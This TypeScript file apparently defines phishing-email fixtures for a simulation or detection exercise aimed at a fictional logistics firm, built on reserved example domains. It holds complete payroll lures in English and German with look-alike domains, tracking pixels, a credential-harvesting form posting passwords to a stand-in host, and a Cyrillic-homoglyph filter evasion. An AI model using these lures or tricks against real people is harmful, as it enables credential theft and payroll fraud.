import type { Correspondent, Enclosure, Route } from './letter'

/** What the lure says to one recipient. Every link and domain here is invented and reserved (RFC 2606). */
export interface WaveVariant {
  key: string
  from: Correspondent
  replyTo?: Correspondent
  subject: string
  route: Route
  enclosures?: Enclosure[]
  html(recipient: Correspondent, token: string): string
}

/** The same bytes in every variant that carries it: one hash finds them all. */
const WAVE_ATTACHMENT: Enclosure = {
  kind: 'pdf',
  name: 'Payslip-correction.pdf',
  lines: [
    'Harbour & Pine Logistics: payslip correction',
    'Your payment is on hold until your bank details are confirmed.',
    'Open https://portal.harbourp1ne.example/confirm and sign in before noon.',
    'Reference HP-20417',
  ],
}

const pixel = (host: string, token: string) =>
  `<img src="https://${host}/o/${token}.gif" width="1" height="1" alt="" style="display:none">`

const frame = (body: string) =>
  `<html><head><meta charset="utf-8"></head><body style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#1d2733">${body}</body></html>`

const failing = (host: string, address: string, scl: number): Route => ({
  host,
  address,
  spf: 'softfail',
  dkim: 'none',
  dmarc: 'fail',
  scl,
})

export const WAVE_VARIANTS: readonly WaveVariant[] = [
  {
    key: 'look-alike',
    from: { name: 'Harbour & Pine Payroll', address: 'payroll@harbourp1ne.example' },
    subject: 'Action required: confirm your payroll details before today’s run',
    // A domain of their own passes every check: that is why it got through
    route: {
      host: 'out1.harbourp1ne.example',
      address: '203.0.113.41',
      spf: 'pass',
      dkim: 'pass',
      dmarc: 'pass',
      scl: 1,
    },
    enclosures: [WAVE_ATTACHMENT],
    html: ({ name }, token) =>
      frame(`<p>Dear ${name},</p><p>During today’s payroll run your bank details could not be verified. To avoid a late payment, please confirm them <b>before 12:00</b>:</p>
<p><a href="https://portal.harbourp1ne.example/payroll/confirm?u=${token}">https://portal.harbourpine.example/payroll/confirm</a></p>
<p>If you do not confirm, this month’s salary moves to the next run.</p><p>Payroll Team<br>Harbour &amp; Pine Logistics</p>${pixel('img.harbourp1ne.example', token)}`),
  },
  {
    key: 'on-hold',
    from: { name: 'HR Service Desk', address: 'hr-desk@pine-people.example' },
    replyTo: { name: 'HR Service Desk', address: 'hrdesk.pine@mailbox.example' },
    subject: 'Your payslip is on hold (ref HP-20417)',
    route: failing('smtp7.pine-people.example', '203.0.113.77', 4),
    enclosures: [WAVE_ATTACHMENT],
    html: ({ name }, token) =>
      frame(`<p>Hello ${name},</p><p>Your payslip is <span style="color:#b00020">on hold</span>. Details are in the attached letter.</p>
<p><a href="https://pine-people.example/r/${token}" style="background:#0f5c4d;color:#fff;padding:10px 18px;text-decoration:none">Release my payslip</a></p>${pixel('pine-people.example', token)}`),
  },
  {
    key: 'form',
    from: { name: 'Payroll verification', address: 't.baranski@baltic-carriers.example' },
    subject: 'Payroll verification – 2 minutes',
    // A partner's own account, taken over: everything passes
    route: {
      host: 'mail.baltic-carriers.example',
      address: '198.51.100.23',
      spf: 'pass',
      dkim: 'pass',
      dmarc: 'pass',
      scl: 1,
    },
    html: ({ address }, token) =>
      frame(`<table width="480" style="border:1px solid #d5dbe1"><tr><td style="padding:24px"><h2>Sign in to confirm</h2>
<form action="https://forms.baltic-carriers-secure.example/collect?t=${token}" method="post"><p><label>Work e-mail<br><input name="login" value="${address}"></label></p>
<p><label>Password<br><input name="passwd" type="password"></label></p><p><button type="submit">Confirm payroll details</button></p></form>
<p style="font-size:11px;color:#667">Harbour &amp; Pine Logistics · Payroll run ${token.slice(0, 4)}</p></td></tr></table>`),
  },
  {
    key: 'german',
    from: { name: 'Harbour & Pine Lohnbüro', address: 'lohnbuero@harbourp1ne.example' },
    subject: 'Handlung erforderlich: Gehaltsdaten vor 12 Uhr bestätigen',
    route: {
      host: 'out2.harbourp1ne.example',
      address: '203.0.113.42',
      spf: 'pass',
      dkim: 'pass',
      dmarc: 'pass',
      scl: 1,
    },
    enclosures: [WAVE_ATTACHMENT],
    html: ({ name }, token) =>
      frame(`<p>Guten Tag ${name},</p><p>Ihre Bankverbindung konnte heute nicht geprüft werden. Bitte bestätigen Sie sie bis <b>12 Uhr</b>:</p>
<p><a href="https://portal.harbourp1ne.example/de/bestaetigen?u=${token}">portal.harbourpine.example</a></p><p>Mit freundlichen Grüßen<br>Lohnbüro</p>${pixel('img.harbourp1ne.example', token)}`),
  },
  {
    key: 'homoglyph',
    // The "о" in "Actiоn" and in "Payrоll" is Cyrillic: a filter on the Latin words misses it
    from: { name: 'Harbour & Pine Payrоll', address: 'no-reply@harbour-pine.example.net' },
    subject: 'Actiоn required: confirm your payrоll details',
    route: failing('vps-4417.hosting.example.net', '203.0.113.190', 5),
    html: ({ name }, token) =>
      frame(
        `<p>Dear ${name},</p><p>Please confirm your payrоll details today: <a href="https://harbour-pine.example.net/c/${token}?next=https://portal.harbourpine.example/">portal.harbourpine.example</a></p>${pixel('harbour-pine.example.net', token)}`,
      ),
  },
  {
    key: 'voice',
    from: { name: 'Voice message', address: 'vm@harbourp1ne.example' },
    subject: '📞 Voicemail from Payroll (0:42) – details to confirm',
    route: failing('out3.harbourp1ne.example', '203.0.113.43', 6),
    enclosures: [WAVE_ATTACHMENT],
    html: (_, token) =>
      frame(
        `<p>You have a new voice message from <b>Payroll</b> (42 seconds).</p><p><a href="https://portal.harbourp1ne.example/vm/${token}">▶ Listen and confirm</a></p>`,
      ),
  },
]
